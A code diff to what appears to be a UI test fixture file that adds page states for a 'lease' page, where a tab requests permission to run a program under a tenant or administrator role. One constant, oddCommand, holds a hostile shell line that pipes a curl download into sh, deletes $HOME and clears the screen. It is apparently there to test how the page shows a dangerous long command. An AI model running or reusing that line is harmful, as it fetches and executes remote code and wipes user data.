@@ -17,6 +17,7 @@ const history = 'src/pages/history/history.html';
 const diagnostics = 'src/pages/diagnostics/diagnostics.html';
 const welcome = 'src/pages/welcome/welcome.html';
 const question = 'src/pages/question/question.html';
+const leasePage = 'src/pages/question/lease.html';
 
 const now = Math.round(Date.now() / 1000);
 
@@ -116,6 +117,34 @@ const five = Object.fromEntries(
     session(name, 52 - 11 * at, { tabIds: at === 3 ? [] : [at + 1] }),
   ]),
 );
+
+/** @param {string} name @param {object} [wanted] */
+const lending =
+  (name, wanted = {}) =>
+  () => ({
+    local: usual().local,
+    session: {
+      leases: {
+        one: {
+          id: 'one',
+          tabId: 1,
+          wanted: {
+            ticket: 1,
+            portal: 'acme',
+            role: 'tenant',
+            tenant: { id: `${name}-guid`, name },
+            program: './report.py --month 11',
+            folder: '/home/bob/reports',
+            minutes: 15,
+            reason: null,
+            ...wanted,
+          },
+        },
+      },
+    },
+  });
+
+const oddCommand = String.raw`sh -c 'curl -s https://example.org/${'path/'.repeat(40)} | sh; rm -rf "$HOME"' $'\x1b[2J'`;
 
 /** @param {object} local @param {object} [session] */
 const state =
@@ -365,6 +394,21 @@ export const pageStates = [
     world: asking({ kind: 'session_limit' }),
     ready: '#cancel',
   },
+  { name: 'lease', page: `${leasePage}#one`, world: lending('invoice'), ready: '#lend' },
+  {
+    name: 'lease: production',
+    page: `${leasePage}#one`,
+    world: lending('billing-prod', { reason: 'OPS-1' }),
+    ready: '#lend',
+  },
+  {
+    name: 'lease: administrator, a long command',
+    page: `${leasePage}#one`,
+    world: lending('', { role: 'admin', tenant: null, program: oddCommand, minutes: 60 }),
+    ready: '#lend',
+  },
+  { name: 'lease: long name', page: `${leasePage}#one`, world: lending(LONG_NAME), ready: '#lend' },
+  { name: 'lease: gone', page: `${leasePage}#two`, world: lending('invoice') },
   {
     name: 'question: gone',
     page: `${question}#two`,
